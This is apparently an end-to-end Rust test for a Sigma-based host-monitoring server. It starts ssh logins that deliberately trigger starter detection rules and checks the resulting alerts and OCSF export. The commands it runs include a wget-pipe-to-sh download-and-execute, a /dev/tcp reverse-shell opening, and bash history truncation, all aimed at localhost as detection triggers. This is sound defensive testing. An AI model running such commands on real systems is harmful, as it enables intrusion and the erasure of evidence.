//! Sigma detections end to end: real ssh logins on a real sshd, the real agent
//! shipping to the real server over mutual TLS, the server running the starter
//! rule set (packaging/sigma) plus a rule file with a syntax error. Each thing a
//! starter rule describes, done in the login, raises its `sigma` alert naming the
//! login's user and source; the broken file is reported and the rest fire.
//! `watchtowerctl rules test` finds the same events in the store, and `rules
//! check` names the broken file.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use serde_json::Value;
use watchtower_e2e::central::{Pki, Server, ctl};
use watchtower_e2e::{ALICE, ALICE_PASSWORD, Agent, PATIENCE, Sshd, TempDir, privileged};

fn start_agent(pki: &Pki, server: &Server) -> Agent {
    let mut flags = pki.agent_args(&server.address());
    flags.push("--no-journal".into());
    Agent::start(&flags.iter().map(String::as_str).collect::<Vec<_>>())
}

/// The starter rules and one broken file, in a directory of the test's own.
fn rules_dir() -> TempDir {
    let dir = TempDir::new("sigma-rules");
    let starter = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../packaging/sigma");
    for entry in std::fs::read_dir(starter).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.0.join(path.file_name().unwrap())).unwrap();
    }
    std::fs::write(dir.0.join("broken.yml"), "title: [a rule with a syntax error\n").unwrap();
    dir
}

/// The kept alerts of rule `sigma`, as JSON.
fn sigma_alerts(pki: &Pki, server: &Server) -> Vec<Value> {
    let (code, out, _) = ctl(pki, server, &["alerts", "--json"]);
    assert_eq!(code, 0);
    out.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|a| a["rule"] == "sigma")
        .collect()
}

fn rule_file(alert: &Value) -> String {
    alert["sigma"]["file"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn what_each_starter_rule_describes_done_in_an_ssh_login_raises_its_alert_with_the_login() {
    if !privileged() {
        return;
    }
    let pki = Pki::new();
    let rules = rules_dir();
    let (_config, server) = server_with_rules(&pki, &rules);
    let sshd = Sshd::start();
    let agent = start_agent(&pki, &server);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let scratch = TempDir::new("sigma-home");
    std::fs::set_permissions(&scratch.0, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let history = scratch.0.join(".bash_history");

    let out = sshd.ssh_key_tty("sudo -k; sudo bash -c true", &[("password for", ALICE_PASSWORD)]);
    assert!(!out.contains("not allowed"), "{out}");
    for command in [
        "env LD_PRELOAD= /bin/true".to_owned(),
        format!("touch {0} && truncate -s0 {0}", history.display()),
        "sh -c 'wget -qO- http://127.0.0.1:9/i | sh' || true".to_owned(),
        format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' || true"),
    ] {
        let (code, out) = sshd.ssh_password(ALICE, ALICE_PASSWORD, &command);
        assert_eq!(code, 0, "{command}: {out}");
    }

    let expected: BTreeSet<String> = [
        "shell-by-sudo-or-su.yml",
        "ld-preload-on-exec.yml",
        "history-or-logs-truncated.yml",
        "download-and-execute.yml",
        "reverse-shell.yml",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    let start = Instant::now();
    let alerts = loop {
        let alerts = sigma_alerts(&pki, &server);
        let fired: BTreeSet<String> = alerts.iter().map(rule_file).collect();
        if fired.is_superset(&expected) {
            // Let any alert that should not come arrive.
            std::thread::sleep(Duration::from_secs(2));
            break sigma_alerts(&pki, &server);
        }
        assert!(
            start.elapsed() < PATIENCE,
            "fired {fired:?}, expected {expected:?}\n{}",
            server.log()
        );
        std::thread::sleep(Duration::from_millis(300));
    };
    let _ = agent.stop();

    let fired: BTreeSet<String> = alerts.iter().map(rule_file).collect();
    assert_eq!(fired, expected, "{alerts:#?}");
    for alert in &alerts {
        assert_eq!(alert["user"], ALICE, "{alert:#}");
        assert_eq!(alert["remote_address"], "127.0.0.1", "{alert:#}");
        let chain = alert["sigma"]["session_chain"].as_array().unwrap();
        assert_eq!(chain.last().unwrap()["service"], "sshd", "{alert:#}");
        assert!(
            alert["summary"]
                .as_str()
                .unwrap()
                .contains("alice from 127.0.0.1 via sshd"),
            "{alert:#}"
        );
    }
    let by_sudo: Vec<_> = alerts
        .iter()
        .filter(|a| rule_file(a) == "shell-by-sudo-or-su.yml")
        .collect();
    assert_eq!(by_sudo.len(), 1, "{by_sudo:#?}");
    let chain = by_sudo[0]["sigma"]["session_chain"].as_array().unwrap();
    assert_eq!(chain[0]["service"], "sudo");
    assert_eq!(chain[0]["user"], "root");
    assert_eq!(by_sudo[0]["severity"], "warning");
    let shell = &by_sudo[0]["sigma"]["event"]["event"]["body"]["exec"];
    assert!(
        shell["filename"].as_str().unwrap().ends_with("/bash"),
        "{shell:#}"
    );
    // The broken file is reported by name; the others run.
    assert!(server.log().contains("broken.yml"), "{}", server.log());

    operator_finds_the_same(&pki, &server, &rules, &alerts);
    everything_exported_is_valid_ocsf(&pki, &server);
    drop(listener);
}

/// What these logins stored, exported as OCSF (`export --format ocsf`), and the
/// alerts they raised (`alerts --format ocsf`) validate against the published
/// OCSF schema, every class we produce among them.
fn everything_exported_is_valid_ocsf(pki: &Pki, server: &Server) {
    let (code, events, err) = ctl(pki, server, &["export", "--format", "ocsf", "--since", "1h"]);
    assert_eq!(code, 0, "{err}");
    let (code, alerts, err) = ctl(pki, server, &["alerts", "--format", "ocsf"]);
    assert_eq!(code, 0, "{err}");
    // A program run through sudo inside alice's ssh login is hers, from where she
    // logged in, with the sudo session kept beside it.
    let in_sudo = events
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| {
            e["class_uid"] == 1007
                && e["actor"]["user"]["name"] == ALICE
                && e["actor"]["session"]["is_remote"] == true
                && e["unmapped"]["login"]["source"] == "127.0.0.1"
                && e["unmapped"]["login"]["service"] == "sshd"
                && e["unmapped"]["session"]["uid"].is_string()
        })
        .count();
    assert!(
        in_sudo > 0,
        "no exec inside sudo attributed to {ALICE}'s login:\n{events}"
    );
    watchtower_ocsf::schema_check::assert_valid(&format!("{events}{alerts}"), &[3002, 1007, 4001, 2004, 0]);
}

/// `rules test` finds in the store what the server alerted on; `rules check`
/// names the broken file.
fn operator_finds_the_same(pki: &Pki, server: &Server, rules: &TempDir, alerts: &[Value]) {
    // The operator runs a rule over what was stored: the same events.
    let rule = rules.0.join("reverse-shell.yml");
    let (code, out, _) = ctl(
        pki,
        server,
        &["rules", "test", rule.to_str().unwrap(), "--since", "1h", "--json"],
    );
    assert_eq!(code, 0);
    let matched: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let alerted: Vec<_> = alerts
        .iter()
        .filter(|a| rule_file(a) == "reverse-shell.yml")
        .map(|a| a["seqs"][0].clone())
        .collect();
    let found: Vec<_> = matched.iter().map(|e| e["event"]["seq"].clone()).collect();
    assert_eq!(found, alerted);
    let (code, out, _) = ctl(pki, server, &["rules", "check", rules.0.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("FAILED  broken.yml"), "{out}");
}

/// The server, its Sigma rules read from `rules` (checked every second).
fn server_with_rules(pki: &Pki, rules: &TempDir) -> (TempDir, Server) {
    let config = TempDir::new("sigma-config");
    let config_file = config.0.join("server.toml");
    std::fs::write(
        &config_file,
        format!(
            "[alerts]\nsigma_rules_dir = \"{}\"\nsigma_reload_secs = 1\n",
            rules.0.display()
        ),
    )
    .unwrap();
    let server = Server::start(pki, "127.0.0.1", &["--config", config_file.to_str().unwrap()]);
    (config, server)
}
